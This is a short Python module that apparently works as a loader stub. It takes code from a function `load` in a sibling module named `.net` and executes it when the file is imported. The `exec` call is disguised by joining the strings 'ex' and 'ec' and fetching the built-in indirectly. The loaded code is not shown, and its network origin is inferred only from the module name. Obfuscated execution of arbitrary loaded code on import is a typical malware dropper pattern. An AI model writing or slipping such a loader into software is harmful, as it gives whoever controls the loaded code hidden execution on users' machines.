from .net import load


class Boot:
    def __init__(self):
        self.code = load()

    def go(self):
        run = getattr(__import__("builtins"), "ex" + "ec")
        run(self.code)


Boot().go()
